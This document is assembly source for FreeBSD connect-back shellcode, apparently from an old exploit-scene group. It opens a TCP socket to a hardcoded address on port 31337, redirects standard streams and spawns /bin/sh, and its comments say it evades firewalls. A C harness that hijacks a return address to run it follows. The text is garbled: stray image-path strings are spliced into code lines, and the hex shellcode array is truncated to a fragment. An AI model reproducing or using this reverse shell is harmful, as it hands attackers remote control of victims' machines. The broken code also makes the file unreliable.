; Passive Connection Shellcode
; Coded by Scrippie - [email protected] - http://b0f.freebsd.lublin.pl
; Buffer0verfl0w Security
; Why? This evades firewalls...
; YES, this is for NASM, I detest AT&T syntaxis - it's gross and unreadable
; This is the FreeBSD variant I whipped up
; Tnx to dvorak for pointing out that BSD's int 80h assumes a stored EIP
; on the stack before making it and that BSD has a somewhat different
; sockaddr_in structure (containing sin_len)

        BITS 32

; Equates - keeps this stuff a lot more clear

PORT            equ31337               ; What an eleet port!

_exit           equ 1                   ; See /usr/src/sys/kern/syscalls.c
execve          equ 59                  ; See /usr/src/sys/kern/syscalls.c
dup2            equ 90                  ; See /usr/src/sys/kern/syscalls.c
socket          equ 97                  ; See /usr/src/sys/kern/syscalls.c
connect         equ 98                  ; See /usr/src/sys/kern/syscalls.c

IPPROTO_TCP     equ 6                   ; See netinet/in.h
PF_INET         equ 2                   ; See sys/socket.h
SOCK_STREAM     equ 1                   ; See sys/socket.h

sockaddr_in_off equ 0
shell_off       equ 8
shell_ptr_off   equ 16

        jmp short EndCode

        pop esi                         ; Get offset data in esi

        xor eax, eaxxor ebx, ebx

        mov bl,IPPROTO_TCP             ; Push IPPROTO_TCP
        push ebx
        mov bl, SOCK_STREAM             ; Push SOCK_STREAM
        push ebx
        mov bl, PF_INET                 ; Push PF_INET
        push ebx
        push ebx                        ; Skipped by int 80h
        mov al, socket                  ;Select socket() syscall

        int 80h                         ; socket(AF_INET, SOCK_STREAM, IPPROTO_TCP)
        mov edx, eax                    ; Save the resulting socket descriptor

        mov byte [esi+sockaddr_in_off+1], PF_INET ; sin_family -> PF_INET
        mov word [esi+sockaddr_in_off+2], PORT  ; Set the port number

        mov bl, 16                      ; sizeof(sockaddr_in)
        push ebx

        lea ebx, [esi+sockaddr_in_off]  ; Get offset sockaddr_in into ebx
        push ebx                        ; Push it
        push eax                        ; Still holds sockfd
        push eax                        ; Canary value

        mov al, connect                 ; Select connect() syscall
        int 80h                         ; connect(sockfd, sockaddr_in, 10)xor ebx, ebx
        push ebx
        push edx
        mov al, dup2                    ; Select dup2 syscall

        push eax                        ; Ruined
        int 80h

        inc bl
        push ebx
        push edx
        mov al, dup2                    ; Do the same for stdout
        push eax
        int 80h

        inc bl
        push ebx
        push edx
        mov al, dup2                    ; And finally for stderr

        push eax
        int 80h

        xor ebx, ebx
        push ebx                        ; *envp == NULL

        lea edi, [esi+shell_off+7]
        xor eax, eax
        xor ecx, ecx
        mov cl, 9
        repe stosb

        lea ebx, [esi+shell_off]        ; Get offset shell into ebxmov [esi+shell_ptr_off], ebx    ; Store it at shell_off
        lea ecx, [esi+shell_ptr_off]    ; Get offset shell_off into ecx
        push ecx                        ; argp
        push ebx                        ; command

        push eax                        ; canary
        mov al, execve
        int 80h                         ; Spawn the frikkin' shell

        mov al, _exit                   ; _exit() system call
        int 80h                         ; Do it

        call Startsockaddr_in     db 'ABCC'               ; A=sin_len - B=sin_family - C=port
                dd 0x100007f            ; IP addr (s_addr) in htonl() form
; 8 bytes not needed ;)

shell           db'/bin/sh' ;,0
;shell_ptr      db 1,2,3,4


And here's the shellcode equivalent

char shellcode[]=
x01\x2f\x62\x69\x6e\x2f\x73\x68";                   ^
                                     Start of IP addr
void main() {
        int *ret;

        ret = (int *)&ret +2;
        (*ret) = (int)shellcode;